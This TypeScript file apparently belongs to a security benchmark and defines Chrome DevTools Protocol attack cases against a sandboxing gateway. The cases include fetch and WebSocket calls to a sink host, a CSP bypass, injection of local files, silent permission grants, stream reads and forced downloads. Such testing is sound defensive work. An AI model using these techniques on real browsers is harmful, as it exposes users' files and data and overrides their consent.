import { fieldOf } from '../../doors/cdp/testing/speak-cdp.ts';
import type { Family } from '../attack.ts';
import { type CdpAttack, type CdpPlace, cdpAttacks, SECRET } from '../bench/cdp-attack.ts';

const leaked = (what: string, said: unknown): readonly string[] =>
  JSON.stringify(said ?? '').includes(SECRET) ? [`${what}: ${SECRET}`] : [];

const toSink = ({ sinks }: CdpPlace) => `fetch('http://${sinks.host}/', { mode: 'no-cors' }).catch(() => {})`;

const FIELD = '<input type="file" id="field"><div id="drop" style="position:fixed;inset:60px 0 0 0"></div>';

/** Makes a world in the page; 0 where there is none. */
async function worldOf(at: CdpPlace, params: object = {}): Promise<number> {
  const frameId = /"id":"([^"]+)"/.exec(JSON.stringify(await at.on('Page.getFrameTree')))?.[1];
  const made = await at.on('Page.createIsolatedWorld', { frameId, ...params });
  return Number(fieldOf(made, 'executionContextId') || 0);
}

/** Reads a stream of the browser to the end of its first part. */
async function partOf({ client, on }: CdpPlace, of: 'page' | 'browser', handle: string): Promise<string> {
  const part = of === 'page' ? on('IO.read', { handle }) : client.call('IO.read', { handle });
  return fieldOf(await part, 'data');
}

const stateOf = (at: CdpPlace, name: string) =>
  at.evaluate(`navigator.permissions.query({ name: '${name}' }).then((it) => it.state)`);

const downloads =
  (method: string): CdpAttack['strike'] =>
  async (at) => {
    const params = { behavior: 'allow', downloadPath: at.folder };
    if (method.startsWith('Page.')) await at.on(method, params);
    else await at.client.call(method, { ...params, browserContextId: await at.contextId() });
    await at.evaluate("location.href = '/download', 1");
    await at.evaluate('new Promise((done) => setTimeout(done, 1000))');
    return [];
  };

/** A client of the protocol, after what the page and the machine keep to themselves. */
export const protocolPages: Family = {
  group: 'driver',
  rows: {
    'CDP-11': 'code evaluated in the page',
    'CDP-12': 'worlds of others',
    'CDP-13': 'content policies passed over',
    'CDP-18': 'files of the machine chosen',
    'CDP-20': 'permissions granted',
    'CDP-26': 'traces and streams as a way to read',
    'CDP-35': 'files written on the machine',
    'CDP-36': 'a page that is made to crash',
  },
  attacks: cdpAttacks([
    {
      id: 'CDP-11a',
      technique: 'a script in the page that asks an unlisted host',
      mustStop: 'gateway',
      async strike(at) {
        await at.evaluate(toSink(at));
        return [];
      },
    },
    {
      id: 'CDP-11b',
      technique: 'the same in a world of its own',
      mustStop: 'gateway',
      async strike(at) {
        await at.evaluate(toSink(at), { contextId: await worldOf(at, { worldName: 'mine' }) });
        return [];
      },
    },
    {
      id: 'CDP-11c',
      technique: 'the same in every document to come',
      mustStop: 'gateway',
      async strike(at) {
        await at.on('Page.enable');
        await at.on('Page.addScriptToEvaluateOnNewDocument', { source: toSink(at) });
        await at.on('Page.reload');
        await at.evaluate('new Promise((done) => setTimeout(done, 500))');
        return [];
      },
    },
    {
      id: 'CDP-11d',
      technique: 'a socket of a world of its own',
      mustStop: 'gateway',
      async strike(at) {
        const contextId = await worldOf(at, { worldName: 'mine' });
        await at.evaluate(`new WebSocket('ws://${at.sinks.host}/'), 1`, { contextId });
        return [];
      },
    },
    {
      id: 'CDP-11e',
      technique: 'a script where the debugger has stopped the page',
      async strike(at) {
        await at.on('Debugger.enable');
        void at.evaluate('debugger; 1').catch(() => undefined);
        const paused = await at.client.event('Debugger.paused');
        const callFrameId = fieldOf(paused?.params, 'callFrameId');
        await at.on('Debugger.evaluateOnCallFrame', { callFrameId, expression: toSink(at) });
        await at.on('Debugger.resume');
        return [];
      },
    },
    {
      id: 'CDP-11f',
      technique: 'a request of the browser itself, for the client',
      async strike(at) {
        const url = `http://${at.sinks.host}/`;
        const options = { disableCache: true, includeCredentials: true };
        const frameId = /"id":"([^"]+)"/.exec(JSON.stringify(await at.on('Page.getFrameTree')))?.[1];
        await at.on('Network.loadNetworkResource', { url, frameId, options });
        return [];
      },
    },
    {
      id: 'CDP-12',
      technique: 'worlds of others, by ids that were the client’s own in another process',
      async strike(at) {
        for (let n = 0; n < 30; n += 1) await worldOf(at, { worldName: `mine${n}` });
        const found: string[] = [];
        for (const url of [at.elsewhere, `${at.lure.origin}/elsewhere`, at.elsewhere]) {
          await at.on('Page.navigate', { url });
          await at.watch();
          await at.evaluate('window.marker = 1');
          for (let contextId = 1; contextId < 60; contextId += 1) {
            const came = await at.evaluate('typeof window.marker', { contextId });
            if (came === 'undefined') found.push(`the world ${contextId} is somebody else’s`);
          }
        }
        return found;
      },
    },
    {
      id: 'CDP-13',
      technique: 'a page whose content policy is passed over',
      headers: { 'content-security-policy': "connect-src 'none'" },
      async strike(at) {
        await at.on('Page.enable');
        await at.on('Page.setBypassCSP', { enabled: true });
        await at.on('Page.reload');
        await at.evaluate('new Promise((done) => setTimeout(done, 300))');
        const came = await at.evaluate("fetch('/take').then(() => 'asked', () => 'kept')");
        return came === 'asked' ? ['the page asked all the same'] : [];
      },
    },
    {
      id: 'CDP-18a',
      technique: 'a file of the machine chosen in a field',
      page: FIELD,
      async strike(at) {
        const { root } = await at.on('DOM.getDocument');
        const nodeId = Number(/"nodeId":(\d+)/.exec(JSON.stringify(root ?? ''))?.[1] ?? 0);
        const field = await at.on('DOM.querySelector', { nodeId, selector: '#field' });
        await at.on('DOM.setFileInputFiles', { files: [at.file], nodeId: Number(fieldOf(field, 'nodeId')) });
        return leaked('the file says', await at.evaluate('field.files[0]?.text()'));
      },
    },
    {
      id: 'CDP-18b',
      technique: 'a file of the machine dropped on the page',
      page: FIELD,
      async strike(at) {
        await at.evaluate(
          'drop.ondragover = (e) => e.preventDefault(); drop.ondrop = (e) => { e.preventDefault(); window.got = e.dataTransfer.files[0]; }; 1',
        );
        const data = { items: [], files: [at.file], dragOperationsMask: 1 };
        for (const type of ['dragEnter', 'dragOver', 'drop']) {
          await at.on('Input.dispatchDragEvent', { type, x: 200, y: 200, data });
        }
        return leaked('the file says', await at.evaluate('window.got?.text()'));
      },
    },
    {
      id: 'CDP-20a',
      technique: 'where the machine is, granted to the page',
      async strike(at) {
        const browserContextId = await at.contextId();
        const asked = { permissions: ['geolocation'], origin: at.lure.origin, browserContextId };
        await at.client.call('Browser.grantPermissions', asked);
        return (await stateOf(at, 'geolocation')) === 'granted'
          ? ['the page may know where the machine is']
          : [];
      },
    },
    {
      id: 'CDP-20b',
      technique: 'notifications, by a setting of the browser',
      async strike(at) {
        const browserContextId = await at.contextId();
        const permission = { name: 'notifications' };
        const asked = { permission, setting: 'granted', origin: at.lure.origin, browserContextId };
        await at.client.call('Browser.setPermission', asked);
        return (await stateOf(at, 'notifications')) === 'granted' ? ['the page may notify'] : [];
      },
    },
    {
      id: 'CDP-26a',
      technique: 'a trace of the browser, read as a stream',
      async strike(at) {
        await at.client.call('Tracing.start', { transferMode: 'ReturnAsStream' });
        await at.client.call('Tracing.end');
        const done = await at.client.event('Tracing.tracingComplete', 8_000);
        const data = await partOf(at, 'browser', fieldOf(done?.params, 'stream'));
        return data === '' ? [] : ['a part of the trace was read'];
      },
    },
    {
      id: 'CDP-26c',
      technique: 'a print of the page, read as a stream',
      async strike(at) {
        const printed = await at.on('Page.printToPDF', { transferMode: 'ReturnAsStream' });
        const data = await partOf(at, 'page', fieldOf(printed, 'stream'));
        return data === '' ? [] : ['a stream was read'];
      },
    },
    {
      id: 'CDP-26d',
      technique: 'how the browser was started',
      async strike({ client }) {
        const { result } = await client.call('SystemInfo.getInfo');
        return /--\w/.test(JSON.stringify(result ?? '')) ? ['the command line'] : [];
      },
    },
    {
      id: 'CDP-35a',
      technique: 'a download into a folder of the machine',
      mustStop: 'flags',
      strike: downloads('Browser.setDownloadBehavior'),
    },
    {
      id: 'CDP-35b',
      technique: 'the same by a method of the page',
      mustStop: 'flags',
      strike: downloads('Page.setDownloadBehavior'),
    },
    {
      id: 'CDP-36',
      technique: 'a page that the client crashes',
      async strike(at) {
        await at.on('Inspector.enable');
        void at.on('Page.crash').catch(() => undefined);
        const crashed = await at.client.event('Inspector.targetCrashed', 2_000);
        return crashed === undefined ? [] : ['the page crashed'];
      },
    },
  ]),
  elsewhere: {},
};
